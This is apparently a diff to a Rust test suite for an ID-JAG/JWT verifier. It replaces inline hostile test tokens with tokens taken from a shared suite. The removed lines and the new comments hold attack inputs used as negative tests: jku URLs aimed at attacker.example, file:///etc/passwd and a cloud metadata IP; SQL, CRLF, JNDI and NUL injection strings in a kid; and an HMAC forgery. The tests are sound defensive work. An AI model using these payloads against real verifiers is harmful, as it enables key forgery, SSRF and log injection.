@@ -16,7 +16,8 @@
 //! - Native and pure-Rust paths agree on the hostile set: every case above, run on both paths.
 //!
 //! Kept: K02 (a `jku` never drives a fetch) and K09 (an unknown kid refetches at most once per
-//! cooldown) count fetches; K06 checks that the rejection's description is log-safe; K14,
+//! cooldown) count fetches, K02 on the suite's own tokens; K06 checks, on the suite's tokens,
+//! that the rejection's description is log-safe; K14,
 //! K16, K17, K19-K22 check that a configuration whose inline JWK Set holds the bad key is
 //! refused at load (the suite has no expectation for a refused configuration).
 
@@ -40,22 +41,6 @@ use xaa_host::wit::{self, Verdict};
 /// Decodes an unpadded base64url segment (test side; lenient is fine here).
 fn unb64(text: &str) -> Vec<u8> {
     xaa_guest::base64url::decode(text).unwrap()
-}
-
-/// Fresh harnesses on both verifier paths: a token's code on each.
-fn codes_jag(token: &str) -> (String, String) {
-    (
-        Harness::new().id_jag(token),
-        Harness::pure_rust().id_jag(token),
-    )
-}
-
-/// Asserts an ID-JAG's code on both verifier paths (fresh harness each, so no replay state).
-#[track_caller]
-fn assert_jag(token: &str, expected: &str) {
-    let (native, pure) = codes_jag(token);
-    assert_eq!(native, expected, "native verifier path");
-    assert_eq!(pure, expected, "pure-Rust verifier path");
 }
 
 /// The baseline configuration with the first trusted issuer's inline JWK Set replaced.
@@ -135,12 +120,6 @@ fn jag_with_kid(jti: &str, kid: &str) -> String {
     jag_header(jti, json!({"kid": kid}))
 }
 
-/// The signing input of a token.
-fn signing_input(token: &str) -> String {
-    let (h, p, _) = parts(token);
-    format!("{h}.{p}")
-}
-
 // ---------------------------------------------------------------------------------------
 // G: signature bytes
 // ---------------------------------------------------------------------------------------
@@ -149,47 +128,34 @@ fn signing_input(token: &str) -> String {
 // K: keys
 // ---------------------------------------------------------------------------------------
 
+/// K02's tokens are the suite's (case `K02`: `jku` an attacker URL, `file:`, a metadata IP,
+/// the IdP's own URL; verdict `header_forbidden`); what the suite cannot see is that none of
+/// them makes the host fetch anything.
 #[test]
 fn k02_jku_is_header_forbidden_and_never_fetched() {
-    for jku in [
-        "https://attacker.example/jwks.json",
-        "file:///etc/passwd",
-        "http://169.254.169.254/latest/meta-data/",
-        "https://idp.example.com/jwks",
-    ] {
-        let mut header = id_jag_header();
-        header["jku"] = json!(jku);
-        header["kid"] = json!("attacker");
-        let token = mint(
-            &header,
-            &id_jag_claims("k02"),
-            Signer::Es256(&keys().attacker),
-        );
+    let tokens = suite_tokens("K02");
+    assert_eq!(tokens.len(), 4);
+    for (token, verdict) in tokens {
         // Keys fetched from a jwks_uri: a token-driven fetch would show in the count.
         for native in [true, false] {
             let (mut h, calls) = fetched_harness(&idp_jwks(), native);
-            assert_eq!(h.id_jag(&token), "header_forbidden", "{jku}");
+            assert_eq!(h.id_jag(&token), verdict, "native={native}");
             assert_eq!(calls.load(Ordering::SeqCst), 0, "a token drove a fetch");
         }
     }
 }
 
+/// K06's tokens are the suite's (case `K06`: a kid with SQL, CRLF, JNDI, NUL injection or a
+/// variant of a real kid; verdict `key_not_found` on both paths there); what the suite cannot
+/// see is the rejection's description, which must stay log-safe.
 #[test]
 fn k06_injection_kid_is_key_not_found_and_log_safe() {
-    for kid in [
-        "' UNION SELECT 'k' --",
-        "idp-ec' OR '1'='1",
-        "idp-ec\r\nX-Injected: yes",
-        "idp-ec\n",
-        "${jndi:ldap://attacker.example/a}",
-        "idp-ec\u{0}",
-        "IDP-EC",
-        "idp-ec ",
-    ] {
-        let token = jag_with_kid("k06", kid);
-        assert_jag(&token, "key_not_found");
+    let tokens = suite_tokens("K06");
+    assert_eq!(tokens.len(), 8);
+    for (token, verdict) in tokens {
         match Harness::new().validator.validate_id_jag(&token, CLIENT) {
             Verdict::Rejected(r) => {
+                assert_eq!(r.code, verdict);
                 assert!(
                     !r.description.chars().any(char::is_control),
                     "control characters reach the description: {:?}",
@@ -376,26 +342,12 @@ fn k21_oct_key_is_refused_at_load() {
         assert_jwks_refused(bad);
     }
     // Even an alg the issuer allows does not make HS256 with the oct secret acceptable.
-    let mut cfg = config();
     let jwks = idp_jwks_plus(json!({"kty": "oct", "kid": "sym", "k": secret}));
-    cfg.authorization_server.as_mut().unwrap().trusted_issuers[0].keys =
-        wit::KeySource::Uri("https://idp.example.com/jwks".into());
-    let mut imp = imports(true);
-    imp.jwks = Arc::new(ServeJwks {
-        body: jwks.to_string(),
-        calls: Arc::new(AtomicUsize::new(0)),
-    });
-    let mut h = Harness::with(cfg, imp);
-    let unsigned = mint(
-        &json!({"typ": "oauth-id-jag+jwt", "alg": "HS256", "kid": "sym"}),
-        &id_jag_claims("k21"),
-        Signer::Raw(Vec::new()),
-    );
-    let mac = hmac_sha256(
-        b"attacker-chosen-hmac-secret-32by",
-        signing_input(&unsigned).as_bytes(),
-    );
-    assert_eq!(h.id_jag(&with_sig(&unsigned, &mac)), "alg_not_allowed");
+    let (mut h, _) = fetched_harness(&jwks, true);
+    // The suite's K21-c forgery: HMAC-SHA256 keyed with the oct key's secret.
+    let (forged, verdict) = &suite_tokens("K21-c")[0];
+    assert_eq!(verdict, "alg_not_allowed");
+    assert_eq!(h.id_jag(forged), "alg_not_allowed");
     // And an ES256 token naming the oct kid finds no key.
     assert_eq!(h.id_jag(&jag_with_kid("k21-es", "sym")), "key_not_found");
 }
